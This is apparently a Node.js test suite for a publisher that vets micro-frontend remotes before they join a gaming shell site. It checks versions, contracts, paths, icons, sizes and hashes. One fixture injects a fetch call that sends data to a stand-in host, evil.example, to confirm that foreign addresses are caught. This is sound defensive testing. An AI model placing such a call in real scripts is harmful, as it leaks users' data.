import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { publishShell } from './publish-shell.mjs';
import { noteNeeds, publishRemote } from './publish-remote.mjs';
import { readJson, readNeeds, readRegistry } from './registry.mjs';
import { shellFaults } from './shells.mjs';
import { buildShell, buildTemplate } from './test/built-parts.mjs';
import { ROOT } from './workspace.mjs';

const work = mkdtempSync(join(tmpdir(), 'ank-wrong-'));
after(() => rmSync(work, { recursive: true, force: true }));

const NAME = 'lucky-draw';
const [shell, sound, site] = ['shell', 'sound', 'site'].map((folder) => join(work, folder));
before(async () => {
  await buildShell(shell);
  await buildTemplate(sound, NAME);
  publishShell(site, shell);
});

const assetOf = (folder, kind) =>
  join(
    folder,
    'dist/assets',
    readdirSync(join(folder, 'dist/assets')).find((file) => kind.test(file)),
  );
const ENTRY = /^remoteEntry\..*\.js$/;

const edit = (file, change) => {
  const text = readFileSync(file, 'utf8');
  assert.ok(change(text) !== text, `${file} is as before`);
  writeFileSync(file, change(text));
};
const hashOf = (file) => `sha384-${createHash('sha384').update(readFileSync(file)).digest('base64')}`;

const descriptor = (change) => (folder) =>
  edit(join(folder, 'descriptor.json'), (text) => JSON.stringify(change(JSON.parse(text))));
const entryScript = (change) => (folder) => edit(assetOf(folder, ENTRY), change);
/** Changes the exposed module like another source would: with its hash in the entry. */
const exposed = (kind) => (change) => (folder) => {
  const file = assetOf(folder, kind);
  const old = hashOf(file);
  edit(file, change);
  entryScript((text) => text.replace(old, hashOf(file)))(folder);
};
const script = exposed(/^__federation_expose_.*\.js$/);
const style = exposed(/^__federation_expose_.*\.css$/);
const manifest = (change) => (folder) => {
  const file = join(folder, 'dist/mf-manifest.json');
  const value = readJson(file);
  change(value);
  writeFileSync(file, JSON.stringify(value));
};
const file = (name, bytes) => (folder) => writeFileSync(join(folder, 'dist/assets', name), bytes);

const iconPaths = readJson(join(ROOT, 'scripts/test-data/icon-paths.json'));

const path = (changes) => descriptor((own) => ({ ...own, paths: [{ ...own.paths[0], ...changes }] }));
const link = (changes) => descriptor((own) => ({ ...own, navigation: [{ ...own.navigation[0], ...changes }] }));
const morePaths = (...more) =>
  descriptor((own) => ({ ...own, paths: [...own.paths, ...more.map((each) => ({ ...own.paths[0], path: each }))] }));

const WRONG = [
  [
    'asks for another version of a shared library',
    entryScript((text) => text.replace(/(shareKey:"react\/jsx-runtime",.*?requiredVersion:)"[^"]+"/, '$1"^18.3.1"')),
    /^It requires react\/jsx-runtime \^18\.3\.1, but the shell provides 19\.\d+\.\d+\.$/,
  ],
  [
    'takes a library that the shell does not share',
    entryScript((text) => text.replace('shareKey:"react/jsx-runtime"', 'shareKey:"preact"')),
    'It uses preact from the shell, which does not share it.',
  ],
  [
    'uses an export that the shell does not have',
    script((text) => text.replaceAll('.useScreen', '.useStage')),
    /^It uses useStage of @ank\/shared\/platform, which the shell's 1\.\d+\.\d+ does not export\.$/,
  ],
  [
    'speaks another contract',
    (folder) => {
      descriptor((own) => ({ ...own, contract: 2 }))(folder);
      manifest(({ metaData }) => (metaData.contract = 2))(folder);
      script((text) => text.replace('{contract:1,', '{contract:2,'))(folder);
    },
    'It is built for contract 2, but the shell supports 1.',
  ],
  [
    'is built for another contract than its descriptor names',
    manifest(({ metaData }) => (metaData.contract = 2)),
    'Its descriptor says contract 1, but it is built for contract 2.',
  ],
  [
    'has a module with another contract than its descriptor names',
    script((text) => text.replace('{contract:1,', '{contract:2,')),
    'Its descriptor says contract 1, but it is built for contract 2.',
  ],
  [
    'lets in whom the shell does not know',
    path({ access: 'vip' }),
    "The access of /lucky-draw, 'vip' must be one of public, player, betting.",
  ],
  [
    'has an entry in a place that the shell does not have',
    link({ place: 'sidebar' }),
    "The place of 'Lucky draw', 'sidebar' must be one of menu, bar, shortcut, banner, histories.",
  ],
  [
    'has too many entries in a place',
    descriptor((own) => ({ ...own, navigation: Array.from({ length: 5 }, () => own.navigation[0]) })),
    'It has 5 entries in menu, but a remote may have 4.',
  ],
  [
    'has a wildcard path',
    morePaths('/lucky-draw/*'),
    '\'path\' of path 2 must be a path such as /lucky-draw, without wildcards, not "/lucky-draw/*".',
  ],
  ['takes a path of the shell', morePaths('/LogIn'), '/LogIn is a path of the shell.'],
  [
    'takes a path of another remote, written otherwise',
    morePaths('/GaliIMP'),
    '/GaliIMP of lucky-draw belongs to gali already.',
  ],
  [
    'has an icon that the shell does not know',
    link({ icon: 'rocket' }),
    "The icon of 'Lucky draw', 'rocket', is neither known to the shell nor among the remote's icons.",
  ],
  ...iconPaths.malformed.map((text) => [
    `brings an icon that is more than paths: ${JSON.stringify(text)}`,
    descriptor((own) => ({ ...own, icons: { dice: [text] } })),
    /^'icons' of the descriptor must be at most 8 icons by name, each of 1 to 8 paths \(SVG path data of at most 600/,
  ]),
  ...[{ dice: [] }, { dice: 'M3 3' }, { Dice: ['M3 3'] }, [['M3 3']], { dice: ['M3 3'.padEnd(601, ' 3')] }].map(
    (icons) => [
      `brings icons of another form: ${JSON.stringify(icons).slice(0, 40)}`,
      descriptor((own) => ({ ...own, icons })),
      /^'icons' of the descriptor must be /,
    ],
  ),
  [
    'comes from another team',
    (folder) => edit(join(folder, 'package.json'), (text) => text.replace('@ank/remote-lucky-draw', '@other/draw')),
    'The name lucky-draw belongs to the package @ank/remote-lucky-draw, not to @other/draw.',
  ],
  [
    'has too large scripts',
    script((text) => `${text};"${randomBytes(60_000).toString('base64')}"`),
    /^Its scripts have \d+ KB gzip, but only 56 KB are allowed\.$/,
  ],
  [
    'has too large a picture',
    file('photo.0123456789.webp', randomBytes(120_000)),
    'photo.0123456789.webp has 118 KB gzip, but only 100 KB are allowed.',
  ],
  [
    'has a script that the entry knows no hash of',
    file('more.0123456789.js', ''),
    'more.0123456789.js has no hash in the entry, so browsers would not check it.',
  ],
  [
    'has a file whose name stays when it changes',
    file('photo.webp', ''),
    'photo.webp has no hash in its name, so browsers would keep an older version.',
  ],
  [
    'calls another host',
    script((text) => `${text};fetch("https://evil.example/collect?at="+1)`),
    /^__federation_expose_remote\.\w+\.js contains the foreign address https:\/\/evil\.example\/collect\?at=\.$/,
  ],
  [
    'loads its parts from another host',
    manifest(({ metaData }) => (metaData.publicPath = 'https://cdn.example/')),
    "Its files require the path https://cdn.example/: build it with the public path 'auto'.",
  ],
  [
    'defines the container of another remote',
    manifest(({ metaData }) => (metaData.globalName = 'ank_gali')),
    'Its container is ank_gali, but must be ank_lucky_draw_ followed by its version.',
  ],
  [
    'has no version in its container, so that it could not run beside another',
    manifest(({ metaData }) => (metaData.globalName = 'ank_lucky_draw')),
    'Its container is ank_lucky_draw, but must be ank_lucky_draw_ followed by its version.',
  ],
  [
    'exposes more than its module',
    manifest(({ exposes }) => exposes.push({ ...exposes[0], path: './more' })),
    'It exposes ./remote, ./more, but must expose ./remote and nothing else.',
  ],
  [
    'reaches the layout with its style sheet',
    style((text) => `${text}header{display:none}`),
    /^__federation_expose_remote\.\w+\.css: header does not begin with a class of the remote\.$/,
  ],
  [
    'has a script that is none',
    script(() => '<!doctype html>'),
    /^__federation_expose_remote\.\w+\.js is not a script: Unexpected token/,
  ],
  [
    'has a name that is another',
    descriptor((own) => ({ ...own, name: 'gali' })),
    'It is published as lucky-draw, but its descriptor says gali.',
  ],
  [
    'has a field that nobody reads',
    descriptor((own) => ({ ...own, colour: 'red' })),
    "the descriptor has no field 'colour'.",
  ],
  ['names a path twice', morePaths('/Lucky-Draw'), /^\/(Lucky-Draw|lucky-draw) is listed twice\.$/],
  ['takes a path of the server', morePaths('/api-lucky'), '/api-lucky is a path of the server.'],
  [
    'leads to a screen of others',
    link({ path: '/withdraw' }),
    "'Lucky draw' leads to /withdraw, which is not a path of the remote.",
  ],
  [
    'leads out of the site',
    link({ path: 'https://evil.example' }),
    '\'path\' of entry 1 must be a path such as /lucky-draw, without wildcards, not "https://evil.example".',
  ],
  [
    'has no text for its entry',
    link({ label: ' ' }),
    '\'label\' of entry 1 must be a text of 1 to 30 characters, not " ".',
  ],
];

/** A hash of each file below the site. */
const bytes = () =>
  readdirSync(site, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => [join(entry.parentPath, entry.name), hashOf(join(entry.parentPath, entry.name))]);

test('the template of a new remote is accepted', () => {
  assert.equal(publishRemote(NAME, { site, folder: sound }).name, NAME);
});

test('a build notes its contract; an older build without the note is still accepted', () => {
  assert.equal(readJson(join(sound, 'dist/mf-manifest.json')).metaData.contract, 1);
  const folder = mkdtempSync(join(work, 'before-'));
  cpSync(sound, folder, { recursive: true, verbatimSymlinks: true });
  manifest(({ metaData }) => delete metaData.contract)(folder);
  const place = mkdtempSync(join(work, 'before-site-'));
  cpSync(site, place, { recursive: true });
  assert.equal(publishRemote(NAME, { site: place, folder }).contract, 1);
});

test('a package does not build while its descriptor names another contract than the installed one', async () => {
  const folder = join(work, 'unlike');
  const wrong = () => descriptor((own) => ({ ...own, contract: 2 }))(folder);
  const fault = { message: 'The descriptor of lucky-draw says contract 2, but its @ank/contract has 1.' };
  await assert.rejects(buildTemplate(folder, NAME, wrong), fault);
});

test('an icon that a remote provides is accepted for its entries', () => {
  const folder = mkdtempSync(join(work, 'icon-'));
  cpSync(sound, folder, { recursive: true, verbatimSymlinks: true });
  descriptor((own) => ({ ...own, icons: { rocket: iconPaths.wellFormed } }))(folder);
  link({ icon: 'rocket' })(folder);
  const place = mkdtempSync(join(work, 'icon-site-'));
  cpSync(site, place, { recursive: true });
  assert.deepEqual(publishRemote(NAME, { site: place, folder }).icons, { rocket: iconPaths.wellFormed });
});

test('wrong artefacts are refused, each with its sentence, and no byte of the site changes', async (t) => {
  const registry = readRegistry(site);
  const other = { ...registry.remotes[0], name: 'gali', paths: [{ path: '/galiimp' }] };
  writeFileSync(join(site, 'registry.json'), JSON.stringify({ remotes: [other, ...registry.remotes] }));
  const untouched = bytes();
  for (const [what, spoil, sentence] of WRONG) {
    await t.test(`one that ${what}`, () => {
      const folder = mkdtempSync(join(work, 'wrong-'));
      cpSync(sound, folder, { recursive: true, verbatimSymlinks: true });
      spoil(folder);
      assert.throws(
        () => publishRemote(NAME, { site, folder }),
        ({ message }) => {
          const [first, ...faults] = message.split('\n');
          assert.equal(first, 'lucky-draw cannot be published:');
          assert.equal(faults.length, 1, message);
          if (sentence instanceof RegExp) assert.match(faults[0], sentence);
          else assert.equal(faults[0], sentence);
          return true;
        },
      );
      assert.deepEqual(bytes(), untouched);
    });
  }
});

test('all faults are reported at once', () => {
  const folder = mkdtempSync(join(work, 'wrong-'));
  cpSync(sound, folder, { recursive: true, verbatimSymlinks: true });
  path({ access: 'vip' })(folder);
  link({ icon: 'rocket' })(folder);
  file('photo.webp', '')(folder);
  assert.throws(
    () => publishRemote(NAME, { site, folder }),
    ({ message }) => message.split('\n').length === 4,
  );
});

test('remotes that were published with release 1.0.0 run under this shell', () => {
  const old = join(work, 'old');
  const remotes = ['gali', 'wallet'].map((name) => {
    const packed = readFileSync(join(ROOT, `e2e/fixtures/98dd830.remote-${name}.json.gz`));
    const { entry, files } = JSON.parse(gunzipSync(packed).toString());
    const folder = join(old, 'remotes', name, entry.version);
    mkdirSync(join(folder, 'assets'), { recursive: true });
    for (const [path, content] of Object.entries(files)) writeFileSync(join(folder, path), content);
    return { ...entry, enabled: true };
  });
  writeFileSync(join(old, 'registry.json'), JSON.stringify({ remotes }));
  noteNeeds(old);
  for (const { name, version } of remotes)
    assert.ok(readNeeds(old, name, version).uses['@ank/shared/platform'].includes('callApi'));
  const contract = readJson(join(shell, 'contract.json'));
  assert.deepEqual(shellFaults(old, contract), []);
  contract.shared['@ank/shared/platform'].exports = ['callApi'];
  assert.equal(shellFaults(old, contract).length, 2);
});
